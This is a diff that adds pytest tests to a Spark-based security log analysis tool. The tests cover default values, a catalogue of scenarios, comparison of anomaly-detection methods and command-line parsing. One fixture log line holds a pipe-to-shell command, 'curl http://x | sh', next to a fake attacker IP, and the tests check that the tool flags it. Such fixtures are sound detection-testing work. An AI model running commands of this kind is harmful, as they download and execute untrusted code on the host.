@@ -250,3 +250,36 @@ def test_streams(spark, tmp_path):
     assert sum(r.n for r in rows(V.hourly_counts(source()), "hours", "complete")) == 31
     windows = rows(V.greedy_windows(source().select(F.lit("s").alias("scenario"), "ts", F.col("value").alias("score")), 3600), "greedy")
     assert [(r.n, r.best) for r in sorted(windows, key=lambda r: r.start_us)][:2] == [(5, 3.0), (4, 7.0)]
+
+
+def test_defaults_and_catalogue(spark):
+    found = G.with_defaults(events(spark, {"edge_type": "CONNECT", "cmdline": None}, {"cmdline": None})).orderBy("event_seq").collect()
+    assert (found[0].bytes_sent, found[0].direction, found[0].cmdline) == (0, "", None) and (found[1].cmdline, found[1].bytes_sent) == ("", None)
+    known = side.known_scenarios()
+    assert known["sc6"]["azure_events"]["filename"] == "victim/azure_events.csv" and not T.supports(known, "sc2", "eve") and T.supports(known, "sc3", "eve")
+    assert ("sc2", "azure_events.csv") in Z.missing_logs(spark, "/nowhere", known)
+
+
+def test_methods(spark):
+    from tracewright.operators import evaluate as E
+
+    rows = [("s", i, i, i % 3, i % 4, 100 + i % 8, int(i % 5 == 0), "zeek_conn.csv" if i % 2 else "eve.json", i, "execution") for i in range(80)]
+    s = spark.createDataFrame(rows, "scenario string, row_seq bigint, t bigint, etype int, src bigint, dst bigint, is_ioc int, source_file string, row_idx bigint, ioc_type string")
+    found = {r.method: r for r in E.compare(s, ["freq_rarity", "random", "graphsage", "rgcn"], ["execution"]).collect()}
+    assert {r.n_tail for r in found.values()} == {24} and all(r.stage_recall_500 == 1.0 and 0 <= r.roc_auc <= 1 for r in found.values())
+    assert E.score_tail(s, "path_lof", "zeek").count() == 12
+    with pytest.raises(ValueError):
+        E.score_tail(s, "x")
+
+
+def test_command_line(spark, tmp_path):
+    from tracewright.__main__ import arguments
+
+    o = arguments(["alerts", "--scores", "a", "--out", "b", "--top", "5"])
+    assert (o.window, o.quantile, o.min_events, o.top) == (3600, 0.99, 3, 5)
+    root = tmp_path / "logs" / "sc5"
+    root.mkdir(parents=True)
+    (root / "azure_events.csv").write_text('TimeGenerated,Computer,EventData,Message\n2025-12-14 16:00:00,h,,"evil at 6.6.6.6"\n2025-12-14 16:00:09,h,,"curl http://x | sh /tmp/y"\n')
+    (tmp_path / "gt.json").write_text(json.dumps({"sc5": {"files": {"azure_events.csv": {"iocs": [{"type": "attack_ip", "value": "6.6.6.6", "lines": []}]}}}}))
+    found = Z.load_annotated(spark, str(tmp_path / "logs"), side.known_scenarios(), "sc5", str(tmp_path / "gt.json")).orderBy("event_seq").collect()
+    assert [(r.edge_type, r.is_ioc, r.is_rule_hit_high) for r in found] == [("CONNECT", True, False), ("WRITE", False, True)]
